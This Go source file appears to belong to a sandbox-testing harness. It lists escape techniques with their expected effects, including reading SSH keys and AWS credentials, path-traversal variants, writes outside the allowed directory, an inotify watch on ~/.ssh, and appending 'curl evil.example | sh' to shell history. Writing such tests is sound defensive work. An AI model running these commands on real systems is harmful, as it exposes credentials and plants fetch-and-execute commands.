package main

// filesTechniques read and write outside DIR by plain names.
var filesTechniques = []Technique{
	{Name: "read-ssh-key", Family: "files", Doc: "cat the private key by absolute path",
		Ops: ops("read"), Path: "~/.ssh/id_rsa",
		Cmd: bash("cat {home}/.ssh/id_rsa"), Effect: leaked},
	{Name: "read-aws-credentials", Family: "files", Doc: "cat cloud credentials by absolute path",
		Ops: ops("read"), Path: "~/.aws/credentials",
		Cmd: bash("cat {home}/.aws/credentials"), Effect: leaked},
	{Name: "read-bash-history", Family: "files", Doc: "grep the shell history for tokens",
		Ops: ops("read"), Path: "~/.bash_history",
		Cmd: bash("grep -h TOKEN {home}/.bash_history"), Effect: leaked},
	{Name: "dotdot-traversal", Family: "files", Doc: "climb out of DIR with ..",
		Ops: ops("read"), Path: "~/.ssh/id_rsa",
		Cmd: bash("cat ../.ssh/id_rsa"), Effect: leaked},
	{Name: "dotdot-from-subdir", Family: "files", Doc: "climb out from a subdirectory of DIR",
		Ops: ops("read"), Path: "~/.aws/credentials",
		Cmd: bash("cat sub/../../.aws/credentials"), Effect: leaked},
	{Name: "noncanonical-path", Family: "files", Doc: "doubled slashes, dots and a detour through DIR",
		Ops: ops("read"), Path: "~/.ssh/id_rsa",
		Cmd: bash("cat {home}//./project/..//.ssh/./id_rsa"), Effect: leaked},
	{Name: "prefix-dotdot", Family: "files", Doc: "a path that starts with DIR and leaves it: DIR/../project2",
		Ops: ops("read"), Path: "~/project2/secret.txt",
		Cmd: bash("cat {dir}/../project2/secret.txt"), Effect: leaked},
	{Name: "sibling-prefix-read", Family: "files", Doc: "read ~/project2, which shares DIR's name as a prefix",
		Ops: ops("read"), Path: "~/project2/secret.txt",
		Cmd: bash("cat {home}/project2/secret.txt"), Effect: leaked},
	{Name: "sibling-prefix-write", Family: "files", Doc: "create a file in ~/project2",
		Ops: ops("create", "write"), Path: "~/project2/new.txt",
		Cmd: bash("echo pwned > {home}/project2/new.txt"), Effect: exists("{home}/project2/new.txt")},
	{Name: "list-parent", Family: "files", Doc: "list the home directory (ls ..)",
		Ops: ops("read"), Path: "~",
		Cmd: bash("ls -a .."), Effect: outputHas("outside.txt")},
	{Name: "list-ssh-dir", Family: "files", Doc: "list ~/.ssh to learn the key names",
		Ops: ops("read"), Path: "~/.ssh",
		Cmd: bash("ls -a {home}/.ssh"), Effect: outputHas("id_rsa")},
	{Name: "cd-outside-relative", Family: "files", Doc: "cd to the home directory, then read by a relative name",
		Ops: ops("read"), Path: "~/.ssh/id_rsa",
		Cmd: bash("cd {home} && cat .ssh/id_rsa"), Effect: leaked},
	{Name: "write-outside", Family: "files", Doc: "overwrite a file in the home directory",
		Ops: ops("write"), Path: "~/outside.txt",
		Cmd: bash("echo pwned > {home}/outside.txt"), Effect: changed("{home}/outside.txt", outsideText)},
	{Name: "create-outside", Family: "files", Doc: "create a new file in the home directory",
		Ops: ops("create", "write"), Path: "~/new.txt",
		Cmd: bash("echo pwned > {home}/new.txt"), Effect: exists("{home}/new.txt")},
	{Name: "append-history", Family: "files", Doc: "append a command to ~/.bash_history",
		Ops: ops("write"), Path: "~/.bash_history",
		Cmd: bash("echo 'curl evil.example | sh' >> {home}/.bash_history"),
		Effect: func(f *Fixture, o *outcome) string {
			return changed("{home}/.bash_history", f.secrets()[".bash_history"])(f, o)
		}},
	{Name: "long-name-outside", Family: "files", Doc: "read an outside file whose name is 250 bytes long",
		Ops: ops("read"), Path: "-secret.txt",
		Cmd: bash("cat {home}/{longname}"), Effect: leaked},
	{Name: "inotify-watch-outside", Family: "files", Doc: "inotify_add_watch on ~/.ssh, to learn when the key is used",
		Ops: ops("watch"), Path: "~/.ssh",
		Cmd: py(`import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.inotify_init1(os.O_CLOEXEC)
wd = libc.inotify_add_watch(fd, b"{home}/.ssh", 0x20 | 0x1)  # IN_OPEN | IN_ACCESS
if wd < 0:
    raise SystemExit("inotify_add_watch: " + os.strerror(ctypes.get_errno()))
print("watch-" + "established")`), Effect: outputHas("watch-established")},
	// What a user.* attribute holds is the file's data too (a browser
	// writes the URL a file came from into one).
	{Name: "getxattr-outside", Family: "files", Doc: "read a user.* xattr of an outside file",
		Ops: ops("getxattr"), Path: "~/outside.txt", Needs: needXattr, Skip: noUserXattrs,
		Cmd: py(`import os; print(os.getxattr("{home}/outside.txt", "` + xattrName + `").decode())`), Effect: leaked},
	{Name: "listxattr-outside", Family: "files", Doc: "list the xattrs of an outside file",
		Ops: ops("listxattr"), Path: "~/outside.txt", Needs: needXattr, Skip: noUserXattrs,
		Cmd: py(`import os; print(os.listxattr("{home}/outside.txt"))`), Effect: outputHas(xattrName)},
}
